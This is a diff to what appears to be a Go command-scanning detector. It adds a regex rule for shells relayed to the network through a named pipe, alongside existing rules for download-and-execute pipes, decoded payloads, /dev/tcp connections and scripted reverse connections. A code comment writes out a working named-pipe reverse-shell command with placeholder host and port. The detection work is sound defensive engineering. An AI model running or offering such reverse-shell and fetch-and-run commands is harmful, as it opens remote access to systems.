@@ -50,6 +50,12 @@ var cmdPatterns = []cmdPattern{
 	pat(tExecution, 0, "download and execute", `(curl|wget)\s[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|(curl|wget)\s.*-O-?\s*\S*\s*[;&]+\s*(ba)?sh\s`),
 	pat(tExecution, 0, "decoded payload executed", `base64\s+(-d|--decode|-D)[^|]*\|\s*(ba|da|z)?sh\b|base64\s+(-d|--decode)[^|]*\|\s*(python|perl|php)`),
 	pat(tExecution, 0, "dev/tcp connection", `/dev/(tcp|udp)/[0-9a-zA-Z.\-]+/[0-9]+`),
+	// A shell wired to a network tool through a named pipe: the tool's
+	// output feeds the shell and the shell's output goes back (mkfifo f;
+	// cat f | sh -i 2>&1 | nc HOST PORT > f). No socket reaches the shell's
+	// stdio, so the ReverseShell detector cannot see it.
+	pat(tExecution, 8, "shell relayed to the network through a named pipe",
+		`(mkfifo|mknod\s+\S+\s+p)\s.*\b((ba|da|z|k|a)?sh\b[^|]*\|\s*\S*\b(nc|ncat|netcat|socat|telnet|openssl)\b|(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*\S*\b(ba|da|z|k|a)?sh\b)`),
 	pat(tExecution, 0, "scripted reverse connection", `(python[0-9.]*|perl|ruby|php)\s+-\S*[ce]\s.*socket.*(subprocess|pty|exec|dup2|spawn)`),
 	pat(tExecution, 0, "payload made executable and run from a temp dir", `chmod\s+(\+x|[0-7]*[157][0-7]{2})\s+/(tmp|dev/shm|var/tmp)/\S+\s*(&&|;)\s*/(tmp|dev/shm|var/tmp)/`),
 	// Discovery.
